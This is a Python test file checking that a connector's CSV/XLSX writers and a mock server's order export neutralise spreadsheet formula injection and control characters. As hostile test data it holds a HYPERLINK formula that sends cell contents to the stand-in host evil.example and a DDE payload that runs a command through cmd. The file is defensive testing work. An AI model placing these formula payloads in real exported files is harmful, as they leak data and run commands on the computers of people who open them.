"""Hostile content in the manual files (issue 9): formula injection, control characters.

Every CSV/XLSX the project writes (tracking upload, order export fixture writer, the `sla`
and GPN CSV, the simulator's order export) must neutralise formula-leading text, keep real
numbers numbers, write XLSX text as string cells and survive control characters.
"""

from __future__ import annotations

import copy
import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook

from connector.ci.schemas import ParsedRecord, parse_record
from connector.cli.sla import to_csv
from connector.ledger import open_ledger_file
from connector.ledger.migrations import MIGRATIONS
from connector.ops.manual_files import (
    ORDER_EXPORT_COLUMNS,
    TRACKING_UPLOAD_COLUMNS,
    read_order_export,
    write_order_export,
    write_tracking_upload,
)
from mock_ci_server.app import create_app
from mock_ci_server.state import SimState

SUPPLIER = "70001"
TOKEN = "manual-files-token-0123456789"
NOW = datetime(2024, 3, 4, 12, 0, tzinfo=UTC)
EXAMPLE = Path(__file__).parents[2] / "fixtures" / "ci-examples" / "get_orders_v4_page2_of_2.json"

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1)"
CONTROL = "Ann\x07\x1b[31mRed\x00"
FORMULA_LEADERS = ("=", "+", "-", "@", "\t", "\r")


def hostile_records() -> list[dict[str, Any]]:
    raw = json.loads(EXAMPLE.read_text())["data"]
    records: list[dict[str, Any]] = copy.deepcopy(raw[:2])
    records[0]["customer"]["name"] = HYPERLINK
    records[0]["customer"]["address1"] = DDE
    records[0]["customer"]["city"] = CONTROL
    records[1]["customer"]["name"] = AT_SUM
    records[1]["line_items"][0]["gift_message"] = "-1+1\tcheers"
    return records


def assert_no_formula(values: list[Any], where: str) -> None:
    for value in values:
        if isinstance(value, str) and value:
            # a plain number may start with '-' / '+'; nothing else may
            head = value[0]
            if head in FORMULA_LEADERS:
                float(value)  # raises: a formula-leading cell that is not a number
            assert not set(value) & {"\x00", "\x07", "\x1b"}, where


def assert_xlsx_text_cells(path_or_bytes: Path | bytes) -> list[list[Any]]:
    source = io.BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes
    sheet = load_workbook(source).worksheets[0]  # not read-only: data_type is visible
    values: list[list[Any]] = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
        values.append([c.value for c in row])
    return values


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_tracking_upload_neutralises_formulas_and_control_characters(
    tmp_path: Path, fmt: str
) -> None:
    led = open_ledger_file(tmp_path / "ledger.sqlite3", "us", MIGRATIONS)
    row = led.insert_outbox(
        shipment_id="S-1",
        ci_lineitemid=612004511,
        tracking=DDE,
        quantity=1,
        now=NOW,
        orderid="1499000251",
        fulfillment_lineitem_id=None,
        carrier_code="ups",
    )
    path = tmp_path / f"t.{fmt}"
    # Before the fix: CSV kept the formula raw, XLSX held a formula cell, and the control
    # characters raised openpyxl's IllegalCharacterError out of `files tracking-upload`.
    assert write_tracking_upload([row], path, fmt, skus={612004511: HYPERLINK + CONTROL}) == 1
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(path.read_text("utf-8"), newline="")))
    else:
        rows = assert_xlsx_text_cells(path)
    assert tuple(rows[0]) == TRACKING_UPLOAD_COLUMNS
    cells = dict(zip(TRACKING_UPLOAD_COLUMNS, rows[1], strict=True))
    assert_no_formula(list(cells.values()), fmt)
    assert cells["sku"] == "'" + HYPERLINK + "Ann\\x07\\x1b[31mRed\\x00"
    assert cells["tracking"] == "'" + DDE
    assert cells["ci_lineitemid"] == "612004511"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_order_export_writer_neutralises_and_reader_gets_the_names_back(
    tmp_path: Path, fmt: str
) -> None:
    records = [parse_record(r) for r in hostile_records()]
    assert all(isinstance(r, ParsedRecord) for r in records)
    path = tmp_path / f"orders.{fmt}"
    write_order_export(records, path, fmt)  # type: ignore[arg-type]
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(path.read_text("utf-8"), newline="")))
    else:
        rows = assert_xlsx_text_cells(path)
    for row in rows[1:]:
        assert_no_formula(row, fmt)
    result = read_order_export(path)
    assert result.problems == []
    names = {r.ship_to.name for r in result.records}
    assert {HYPERLINK, AT_SUM} <= names  # the reader drops the ' again: data intact
    money = dict(zip(ORDER_EXPORT_COLUMNS, rows[1], strict=True))["unit_price"]
    assert money in ("49.99", 49.99)


def test_sla_csv_cells_are_neutralised_and_numbers_stay_numbers() -> None:
    text = to_csv(
        [{"orderid": HYPERLINK, "reason": CONTROL, "business_days_to_auto_cancel": -2}],
        ("orderid", "reason", "business_days_to_auto_cancel"),
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'" + HYPERLINK, "Ann\\x07\\x1b[31mRed\\x00", "-2"]


@pytest.fixture
def sim_client() -> FlaskClient:
    state = SimState()
    state.clock.set(NOW)
    state.add_account(SUPPLIER, TOKEN, region="US")
    records = hostile_records()
    # The connector holds such a record (parse_record refuses it); the simulator stores it and
    # must still export it: a lone surrogate cannot be encoded as UTF-8.
    records[1]["customer"]["address2"] = "Flat \ud800 2"
    state.seed_records(SUPPLIER, records)
    return create_app(state).test_client()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_simulator_export_neutralises_and_never_500s(
    sim_client: FlaskClient, tmp_path: Path, fmt: str
) -> None:
    response = sim_client.get(
        "/_sim/export/orders", query_string={"supplier_id": SUPPLIER, "token": TOKEN, "format": fmt}
    )
    # Before the fix: the control characters made the XLSX export answer 500.
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    data = response.get_data()
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    else:
        rows = assert_xlsx_text_cells(data)
    assert len(rows) == 3
    for row in rows[1:]:
        assert_no_formula(row, fmt)
    by_name = {dict(zip(ORDER_EXPORT_COLUMNS, r, strict=True))["orderid"]: r for r in rows[1:]}
    first = dict(zip(ORDER_EXPORT_COLUMNS, by_name["1499000251"], strict=True))
    assert first["customer_name"] == "'" + HYPERLINK
    assert first["city"] == "Ann\\x07\\x1b[31mRed\\x00"
    assert first["quantity"] in ("1", 1)  # a number stays a number
    # The connector reads the simulator's export back to the customer's real name.
    path = tmp_path / f"orders.{fmt}"
    path.write_bytes(data)
    result = read_order_export(path)
    assert result.problems == []
    assert HYPERLINK in {r.ship_to.name for r in result.records}
